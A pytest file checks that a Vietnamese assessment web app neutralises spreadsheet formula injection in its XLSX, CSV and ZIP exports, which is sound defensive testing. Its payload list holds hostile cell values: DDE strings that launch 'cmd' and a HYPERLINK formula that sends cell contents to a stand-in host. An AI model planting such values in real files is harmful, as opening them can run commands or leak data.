"""User text never becomes a formula in an exported spreadsheet or CSV (DESIGN.md §7).

Each export is downloaded as a user would and opened: every payload comes back as the
exact text typed (XLSX: a string cell, quote-prefixed; CSV: neutralised with a leading
apostrophe as OWASP recommends), and no cell is a formula but the totals the app writes.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from typing import Any

import pytest
from openpyxl import load_workbook

from webapp.dossier.builders.cells import FORMULA_TRIGGERS, csv_cell
from webapp.extensions import db
from webapp.workflow import score_row

LINK = '=HYPERLINK("http://example.com/?d="&A1,"Bấm vào đây")'
PAYLOADS = {
    "unit_name": "=1+2 Phường Trúc Lâm",
    "note": "+cmd|' /C calc'!A0",
    "comment": LINK,
    "doc_number": "-2+3",
    "issuer": "@SUM(1+9)*cmd|' /C calc'!A0",
    "summary": "\t=1+1",
    "filename": "=IMPORTXML(x).pdf",
}


@pytest.fixture
def hostile(
    dossier_case: dict[str, Any],
    add_evidence: Any,
    submit_directly: Any,
    appraise_directly: Any,
) -> dict[str, Any]:
    """Phường Trúc Lâm's dossier with formula-like text in every user-written field."""
    assessment = dossier_case["assessment"]
    assessment.unit.name = PAYLOADS["unit_name"]
    score_row(assessment, "1.2").note = PAYLOADS["note"]
    db.session.commit()
    add_evidence(
        assessment,
        ["1.2"],
        filename=PAYLOADS["filename"],
        doc_number=PAYLOADS["doc_number"],
        issuer=PAYLOADS["issuer"],
        summary=PAYLOADS["summary"],
    )
    submit_directly(assessment)
    appraise_directly(assessment)
    score_row(assessment, "1.1.1").appraiser_comment = PAYLOADS["comment"]
    db.session.commit()
    return dossier_case


APP_FORMULA = re.compile(
    r"=(SUM\([A-Z]+[0-9]+(,[A-Z]+[0-9]+)*\)|ROUND\([A-Z]+[0-9]+\*100/[A-Z]+[0-9]+,2\))"
)


def _cells(data: bytes) -> Iterator[Any]:
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def _assert_text_only(data: bytes, payloads: set[str]) -> None:
    # Citations are trimmed before they are written, so "\t=1+1" arrives as "=1+1".
    expected = {p.strip() for p in payloads}
    found: set[str] = set()
    for cell in _cells(data):
        if cell.data_type == "f":
            # Only the app's own totals (issue 12): sums and the index over cell refs.
            assert APP_FORMULA.fullmatch(cell.value), (
                f"{cell.coordinate}: {cell.value!r}"
            )
            continue
        value = cell.value
        if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
            assert cell.data_type == "s"
            assert cell.quotePrefix, f"{cell.coordinate} not quote-prefixed"
        for payload in expected:
            if isinstance(value, str) and payload in value:
                found.add(payload)
    assert found == expected


def test_score_table_keeps_formula_like_text_as_text(
    hostile: dict[str, Any], login_as: Any
) -> None:
    client = login_as("truclam.chuyenvien")
    response = client.get(
        f"/dossier/assessments/{hostile['assessment'].id}/scores.xlsx"
    )
    assert response.status_code == 200
    _assert_text_only(response.data, set(PAYLOADS.values()) - {PAYLOADS["filename"]})
    ws = load_workbook(io.BytesIO(response.data)).active
    comment = next(c for row in ws.iter_rows() for c in row if c.value == LINK)
    assert comment.data_type == "s" and comment.quotePrefix


def test_ranking_workbook_keeps_formula_like_text_as_text(
    hostile: dict[str, Any], login_as: Any
) -> None:
    client = login_as("admin")
    response = client.get(f"/dossier/periods/{hostile['period'].id}/ranking.xlsx")
    assert response.status_code == 200
    _assert_text_only(response.data, set(PAYLOADS.values()) - {PAYLOADS["filename"]})


def test_dossier_zip_manifest_and_score_table_neutralise_formulas(
    hostile: dict[str, Any], login_as: Any
) -> None:
    client = login_as("truclam.chuyenvien")
    response = client.get(
        f"/dossier/assessments/{hostile['assessment'].id}/dossier.zip"
    )
    assert response.status_code == 200
    zf = zipfile.ZipFile(io.BytesIO(response.data))
    raw = zf.read("manifest.csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(raw)) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    for key in ("filename", "doc_number", "issuer", "summary"):
        assert "'" + PAYLOADS[key] in cells, key
    workbook = next(n for n in zf.namelist() if n.endswith(".xlsx"))
    _assert_text_only(zf.read(workbook), {PAYLOADS["comment"], PAYLOADS["note"]})


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Kế hoạch = 1", "Kế hoạch = 1"),
        ("", ""),
        (-5, -5),
        (1024, 1024),
    ],
)
def test_csv_cells_are_neutralised_only_when_they_start_like_a_formula(
    value: object, written: object
) -> None:
    assert csv_cell(value) == written
